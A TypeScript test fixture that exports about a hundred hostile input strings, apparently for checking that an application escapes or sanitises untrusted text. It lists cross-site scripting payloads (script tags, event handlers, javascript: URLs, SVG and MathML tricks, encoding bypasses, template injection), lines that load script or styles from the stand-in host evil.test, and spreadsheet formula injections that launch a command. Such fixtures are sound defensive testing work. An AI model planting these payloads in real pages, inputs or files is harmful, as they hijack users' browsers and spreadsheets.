/**
 * Attempts to become more than text: call `__xss`, create an element that does, or start a formula.
 */
const forms = [
  ...[
    "<script>__xss()</script>",
    "<ScRiPt>__xss()</sCrIpT>",
    "<script src=//evil.test/x.js>",
    "<script>/*",
    "*/__xss()</script>",
  ],
  ...[
    "</script><script>__xss()</script>",
    "<!--<script>__xss()</script>",
    "--><script>__xss()</script>",
    "<script type=module>__xss()</script>",
  ],
  ...[
    "<scr<script>ipt>__xss()</script>",
    "<script\n>__xss()</script\n>",
    "<script/x>__xss()</script>",
    "\\u003cscript\\u003e__xss()\\u003c/script\\u003e",
  ],
  ...[
    "<img src=x onerror=__xss()>",
    "<img src=x onerror='__xss()'>",
    '<img src="x" onerror="__xss()">',
    "<img/src=x/onerror=__xss()>",
    "<IMG SRC=x ONERROR=__xss()>",
  ],
  ...[
    "<img src=x:x onerror=__xss()//",
    "<img srcset=x onerror=__xss()>",
    "<image href=x onerror=__xss()>",
    "<img src=javascript:__xss()>",
    "<img src=data:, onerror=__xss()>",
  ],
  ...[
    "<svg onload=__xss()>",
    "<svg/onload=__xss()>",
    "<svg><script>__xss()</script></svg>",
    "<svg><script href=data:,__xss()>",
    "<svg><animate onbegin=__xss() attributeName=x dur=1s>",
  ],
  ...[
    "<svg><set onbegin=__xss() attributeName=x>",
    "<svg><a xlink:href=javascript:__xss()><text>x",
    "<svg><use href=data:image/svg+xml,x>",
    "<svg><foreignObject><img src=x onerror=__xss()>",
  ],
  ...[
    "<math><mtext><img src=x onerror=__xss()>",
    "<math href=javascript:__xss()>x",
    "<math><style><img src=x onerror=__xss()>",
    "<body onload=__xss()>",
    "<body onpageshow=__xss()>",
  ],
  ...[
    "<iframe src=javascript:__xss()>",
    "<iframe srcdoc='<script>parent.__xss()</script>'>",
    "<iframe onload=__xss()>",
    "<object data=javascript:__xss()>",
    "<embed src=javascript:__xss()>",
  ],
  ...[
    "<video onerror=__xss()><source>",
    "<audio src=x onerror=__xss()>",
    "<video poster=javascript:__xss()>",
    "<input autofocus onfocus=__xss()>",
    "<select autofocus onfocus=__xss()>",
  ],
  ...[
    "<textarea autofocus onfocus=__xss()>",
    "</textarea><script>__xss()</script>",
    "</title><script>__xss()</script>",
    "</style><script>__xss()</script>",
    "</noscript><script>__xss()</script>",
  ],
  ...[
    "<details open ontoggle=__xss()>",
    "<marquee onstart=__xss()>",
    "<style>@import'//evil.test/x.css'</style>",
    "<style onload=__xss()></style>",
    "<link rel=stylesheet href=//evil.test/x.css>",
  ],
  ...[
    "<link rel=import href=//evil.test/x>",
    "<meta http-equiv=refresh content='0;url=javascript:__xss()'>",
    "<base href=//evil.test/>",
    "<form action=javascript:__xss()><button autofocus>",
    "<button formaction=javascript:__xss()>x",
  ],
  ...[
    "<a href=javascript:__xss()>x</a>",
    "<a href='java\tscript:__xss()'>x</a>",
    "<a href=&#106;avascript:__xss()>x</a>",
    "[x](javascript:__xss())",
    '![x](x"onerror="__xss())',
  ],
  ...[
    "javascript:__xss()",
    "JaVaScRiPt:__xss()//",
    "data:text/html,<script>__xss()</script>",
    "vbscript:__xss()",
    "//evil.test/__xss()",
  ],
  ...[
    '"><script>__xss()</script>',
    "'><script>__xss()</script>",
    '" onmouseover="__xss()',
    "' onmouseover='__xss()",
    '" autofocus onfocus="__xss()',
  ],
  ...[
    "`><img src=x onerror=__xss()>",
    'x" style="animation:x" onanimationend="__xss()',
    "';__xss();//",
    '";__xss();//',
    "\\';__xss();//",
  ],
  ...[
    "${__xss()}",
    "{{constructor.constructor('__xss()')()}}",
    "#{__xss()}",
    "<%= __xss() %>",
    "{dangerouslySetInnerHTML:{__html:'<img src=x onerror=__xss()>'}}",
  ],
  ...[
    "&lt;script&gt;__xss()&lt;/script&gt;",
    "&#60;script&#62;__xss()&#60;/script&#62;",
    "%3Cscript%3E__xss()%3C/script%3E",
    "\u2028__xss()\u2029",
    "\u202e<script>__xss()</script>",
  ],
  ...[
    "<\u017fcript>__xss()</\u017fcript>",
    "\uff1cscript\uff1e__xss()\uff1c/script\uff1e",
    "<x onclick=__xss() tabindex=1 autofocus onfocus=__xss()>",
    "<custom-element onfocus=__xss() autofocus>",
  ],
  ...[
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("//evil.test","x")',
    "+__xss()",
    "-__xss()",
    "@SUM(1+1)*cmd|'/c calc'!A0",
  ],
] as const;

/** Each ends with a word to find it by. A line has no tabs or line breaks. */
export const hostileTexts: readonly string[] = forms
  .slice(0, 100)
  .map((form, nth) => `${form.replaceAll(/[\t\n\u2028\u2029]/g, " ").trim()} ${markOf(nth)}`);

export function markOf(nth: number): string {
  return `txt${String(nth).padStart(3, "0")}`;
}
